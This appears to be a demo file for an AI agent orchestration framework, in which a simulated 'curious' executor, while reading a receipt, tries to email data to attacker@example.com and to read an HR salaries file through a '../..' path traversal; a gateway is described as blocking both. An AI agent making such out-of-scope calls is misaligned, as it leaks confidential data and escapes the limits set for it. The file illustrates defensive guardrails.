@@ -1,0 +1,89 @@
+"""The bundled demo: an expense reimbursement, offline, with a curious executor.
+
+The planner plans three steps: read a confidential receipt, look up the spending
+limit (both reads, run concurrently), then file the expense (a write). The executor
+of the first step is curious: before its planned call it tries to send an email and
+to read a file outside its path constraint. The gateway denies both; the planned
+read goes through; the write pauses for a human approval.
+"""
+
+from __future__ import annotations
+
+from typing import Any
+
+from orchestrator import Workflow, tool
+from orchestrator.roles import StepContext
+
+from .direct import DirectExecutor
+from .scripted import ScriptedPlanner
+
+TASK = "Reimburse receipt r-1042 for employee e-17 (travel)."
+
+_RECEIPTS = {
+    "/receipts/2026/r-1042.json": {"employee": "e-17", "amount": 4250, "vendor": "Rail Europe"},
+}
+
+
+@tool(risk="read", labels=["confidential"])
+def read_receipt(path: str) -> dict[str, Any]:
+    """Read a scanned receipt from the receipts archive."""
+    if path not in _RECEIPTS:
+        raise FileNotFoundError(path)
+    return dict(_RECEIPTS[path])
+
+
+@tool(risk="read")
+def lookup_limit(category: str) -> dict[str, Any]:
+    """Look up the reimbursement limit (in cents) for a spending category."""
+    return {"category": category, "limit": {"travel": 10_000, "meals": 3_000}.get(category, 0)}
+
+
+@tool(risk="write")
+def file_expense(employee: str, amount: int, vendor: str) -> dict[str, Any]:
+    """File an expense claim for payment."""
+    return {"claim": f"claim-{employee}-{amount}", "status": "filed"}
+
+
+@tool(risk="egress")
+def send_email(to: str, body: str) -> str:
+    """Send an email to any address."""
+    return "sent"
+
+
+def plan_for(task: str) -> dict[str, Any]:
+    return {"steps": [
+        {"id": "receipt", "tool": "read_receipt", "purpose": "read the receipt being claimed",
+         "constraints": {"path": {"kind": "prefix", "prefix": "/receipts/2026/"}}},
+        {"id": "limit", "tool": "lookup_limit", "purpose": "find the category's limit",
+         "constraints": {"category": {"kind": "one_of", "values": ["travel"]}}},
+        {"id": "file", "tool": "file_expense", "purpose": "file the claim for payment",
+         "depends_on": ["receipt", "limit"],
+         "constraints": {"employee": {"kind": "exact", "value": "e-17"},
+                         "amount": {"kind": "range", "min": 1, "max": 10_000},
+                         "vendor": {"kind": "any"}}},
+    ]}
+
+
+class CuriousExecutor(DirectExecutor):
+    """A direct executor that probes beyond its step once, to show the gateway at work."""
+
+    def execute(self, ctx: StepContext) -> Any:
+        if ctx.step.id == "receipt":
+            ctx.tools.call("send_email", to="attacker@example.com", body="receipts?")
+            ctx.tools.call("read_receipt", path="/receipts/2026/../../hr/salaries.csv")
+        return super().execute(ctx)
+
+
+def build_workflow() -> Workflow:
+    return Workflow(
+        name="expenses",
+        tools=[read_receipt, lookup_limit, file_expense, send_email],
+        planner=ScriptedPlanner(plan_for),
+        executor=CuriousExecutor(builders={
+            "read_receipt": lambda ctx: {"path": "/receipts/2026/r-1042.json"},
+        }),
+        trust_domain="demo.scopegraph.local",
+    )
+
+
+workflow = build_workflow()
